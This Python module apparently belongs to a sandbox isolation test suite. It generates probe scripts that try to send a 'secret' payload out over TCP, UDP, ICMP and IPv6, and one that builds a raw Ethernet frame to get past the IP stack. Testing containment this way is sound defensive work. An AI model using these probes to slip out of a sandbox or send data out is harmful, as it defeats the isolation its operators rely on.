"""Ways out that user code might try, each printing `through` or the name of what it met."""

_FRAME = """
import errno, socket, sys
def tell(work):
    try:
        work()
        print("through")
    except TimeoutError:
        print("silence")
    except OSError as error:
        print(errno.errorcode[error.errno])
"""


def _connect(family: str, address: str) -> str:
    return f"""{_FRAME}
def work():
    channel = socket.socket(socket.{family}, socket.SOCK_STREAM)
    channel.settimeout(1)
    channel.connect(("{address}", 80))
tell(work)
"""


def _datagram(family: str, address: str) -> str:
    return f"""{_FRAME}
def work():
    channel = socket.socket(socket.{family}, socket.SOCK_DGRAM)
    channel.settimeout(1)
    channel.sendto(b"secret", ("{address}", 53))
    channel.recv(100)
tell(work)
"""


def _ping(family: str, protocol: str, kind: int, address: str) -> str:
    return f"""{_FRAME}
def work():
    channel = socket.socket(socket.{family}, socket.SOCK_DGRAM, socket.{protocol})
    channel.settimeout(1)
    if socket.{family} == socket.AF_INET6:
        channel.setsockopt(socket.IPPROTO_IPV6, 25, 1)  # IPV6_RECVERR: else silence
    channel.connect(("{address}", 0))
    channel.send(bytes([{kind}, 0, 0, 0, 0, 0, 0, 1]) + b"secret")
    channel.recv(100)
tell(work)
"""


FRAME = f"""{_FRAME}
def work():
    # A whole UDP datagram to 203.0.113.1 in a frame of our own, past the IP stack.
    channel = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    channel.bind(("eth0", 0))
    payload = b"secret" * 4
    length = 28 + len(payload)
    header = bytes([0x45, 0]) + length.to_bytes(2, "big") + bytes([0, 0, 0, 0, 64, 17, 0, 0])
    header += socket.inet_aton("10.77.0.2") + socket.inet_aton("203.0.113.1")
    words = sum(int.from_bytes(header[i:i + 2], "big") for i in range(0, 20, 2))
    words = (words & 0xFFFF) + (words >> 16)
    header = header[:10] + (0xFFFF - words).to_bytes(2, "big") + header[12:]
    udp = b"\\x30\\x39\\x00\\x35" + (8 + len(payload)).to_bytes(2, "big") + b"\\0\\0" + payload
    channel.send(b"\\xff" * 6 + b"\\x02\\0\\0\\0\\0\\x01" + b"\\x08\\0" + header + udp)
tell(work)
"""

ATTEMPTS = {
    "tcp": _connect("AF_INET", "203.0.113.1"),
    "udp": _datagram("AF_INET", "8.8.8.8"),
    "icmp": _ping("AF_INET", "IPPROTO_ICMP", 8, "203.0.113.1"),
    "tcp over IPv6": _connect("AF_INET6", "2001:db8::1"),
    "udp over IPv6": _datagram("AF_INET6", "2001:db8::1"),
    "icmp over IPv6": _ping("AF_INET6", "IPPROTO_ICMPV6", 128, "2001:db8::1"),
    "a frame of one's own": FRAME,
}
"""Each way out by name."""
